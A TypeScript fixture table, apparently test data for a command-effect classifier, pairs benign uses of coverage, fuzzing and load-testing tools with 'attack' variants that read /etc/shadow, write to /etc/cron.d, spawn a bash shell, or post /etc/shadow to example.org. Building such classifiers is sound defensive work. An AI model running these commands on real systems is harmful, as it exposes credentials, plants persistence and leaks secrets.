import type { ExampleTable } from './example.ts'

export const testRunners2: ExampleTable = {
  gcov: {
    use: 'gcov notes.txt → read notes.txt',
    attack: 'gcov /etc/shadow → read /etc/shadow',
  },
  gcovr: {
    use: 'gcovr notes.txt -o out.txt → write out.txt',
    attack: [
      'gcovr notes.txt -o /etc/cron.d/job → write /etc/cron.d/job',
      'gcovr notes.txt --gcov-executable=/tmp/x → run /tmp/x',
    ],
  },
  genhtml: {
    use: 'genhtml notes.txt → read notes.txt',
    attack: 'genhtml /etc/shadow → read /etc/shadow',
  },
  kcov: {
    use: 'kcov notes.txt cat notes.txt → read notes.txt',
    attack: [
      'kcov notes.txt cat /etc/shadow → read /etc/shadow',
      'kcov notes.txt bash → shell bash',
    ],
  },
  lcov: {
    use: 'lcov -o out.txt → write out.txt',
    attack: 'lcov -o /etc/cron.d/job → write /etc/cron.d/job',
  },
  'afl-fuzz': {
    use: 'afl-fuzz cat notes.txt → read notes.txt',
    attack: ['afl-fuzz cat /etc/shadow → read /etc/shadow', 'afl-fuzz bash → shell bash'],
  },
  honggfuzz: {
    use: 'honggfuzz cat notes.txt → read notes.txt',
    attack: ['honggfuzz cat /etc/shadow → read /etc/shadow', 'honggfuzz bash → shell bash'],
  },
  radamsa: {
    use: 'radamsa notes.txt → read notes.txt',
    attack: [
      'radamsa /etc/shadow → read /etc/shadow',
      'radamsa notes.txt -o /etc/cron.d/job → read notes.txt; write /etc/cron.d/job',
    ],
  },
  zzuf: {
    use: 'zzuf cat notes.txt → read notes.txt',
    attack: ['zzuf cat /etc/shadow → read /etc/shadow', 'zzuf bash → shell bash'],
  },
  ab: {
    use: 'ab https://example.org/up → send https://example.org/up',
    attack: [
      'ab https://example.org/up -p /etc/shadow → read /etc/shadow; send https://example.org/up',
      'ab https://example.org/up -u /etc/shadow → read /etc/shadow; send https://example.org/up',
    ],
  },
  artillery: {
    use: 'artillery run app.conf → read app.conf',
    attack: [
      'artillery run /etc/shadow → read /etc/shadow',
      'artillery run app.conf -o /etc/cron.d/job → read app.conf; write /etc/cron.d/job',
    ],
  },
  autocannon: {
    use: 'autocannon https://example.org/x → fetch https://example.org/x',
    attack: [
      'autocannon https://example.org/x -i /etc/shadow → read /etc/shadow; fetch https://example.org/x; send autocannon',
      'autocannon https://example.org/x --har=/etc/shadow → read /etc/shadow; fetch https://example.org/x',
    ],
  },
  fio: {
    use: 'fio app.conf → read app.conf',
    attack: [
      'fio /etc/shadow → read /etc/shadow',
      'fio app.conf --output=/etc/cron.d/job → read app.conf; write /etc/cron.d/job',
    ],
  },
  hey: {
    use: 'hey https://example.org/x → fetch https://example.org/x',
    attack:
      'hey https://example.org/x -D /etc/shadow → read /etc/shadow; fetch https://example.org/x; send hey',
  },
  iperf: {
    use: 'iperf -F notes.txt → read notes.txt; send iperf',
    attack: [
      'iperf -F /etc/shadow → read /etc/shadow; send iperf',
      'iperf -o /etc/cron.d/job → write /etc/cron.d/job',
    ],
  },
  iperf3: {
    use: 'iperf3 -F notes.txt → read notes.txt; send iperf3',
    attack: [
      'iperf3 -F /etc/shadow → read /etc/shadow; send iperf3',
      'iperf3 --logfile=/etc/cron.d/job → write /etc/cron.d/job',
    ],
  },
  jmeter: {
    use: 'jmeter -t app.conf → read app.conf',
    attack: [
      'jmeter -t /etc/shadow → read /etc/shadow',
      'jmeter -l /etc/cron.d/job → write /etc/cron.d/job',
    ],
  },
  'k6 inspect': {
    use: 'k6 inspect main.js → read main.js',
    attack: 'k6 inspect /etc/shadow → read /etc/shadow',
  },
  'k6 run': {
    use: 'k6 run main.js → read main.js',
    attack: [
      'k6 run /etc/shadow → read /etc/shadow',
      'k6 run --summary-export=/etc/cron.d/job main.js → read main.js; write /etc/cron.d/job',
    ],
  },
  locust: {
    use: 'locust -f main.py → read main.py',
    attack: [
      'locust -f /etc/shadow → read /etc/shadow',
      'locust --csv=/etc/cron.d/job → write /etc/cron.d/job',
    ],
  },
  multitime: {
    use: 'multitime cat notes.txt → read notes.txt',
    attack: ['multitime cat /etc/shadow → read /etc/shadow', 'multitime bash → shell bash'],
  },
  siege: {
    use: 'siege https://example.org/x → fetch https://example.org/x',
    attack: [
      'siege https://example.org/x -f /etc/shadow → read /etc/shadow; fetch https://example.org/x',
      'siege https://example.org/x -R /etc/shadow → read /etc/shadow; fetch https://example.org/x',
    ],
  },
  'stress-ng': {
    use: 'stress-ng --log-file=out.txt → write out.txt',
    attack: [
      'stress-ng --log-file=/etc/cron.d/job → write /etc/cron.d/job',
      'stress-ng -Y /etc/cron.d/job → write /etc/cron.d/job',
    ],
  },
  sysbench: {
    use: 'sysbench main.lua → read main.lua',
    attack: [
      'sysbench /etc/shadow → read /etc/shadow',
      'sysbench --config-file=/etc/shadow main.lua → read /etc/shadow; read main.lua',
    ],
  },
  vegeta: {
    use: 'vegeta --targets=notes.txt → read notes.txt',
    attack: [
      'vegeta --targets=/etc/shadow → read /etc/shadow',
      'vegeta --output=/etc/cron.d/job → write /etc/cron.d/job',
    ],
  },
  wrk: {
    use: 'wrk https://example.org/x → fetch https://example.org/x',
    attack:
      'wrk https://example.org/x -s /etc/shadow → read /etc/shadow; fetch https://example.org/x',
  },
}
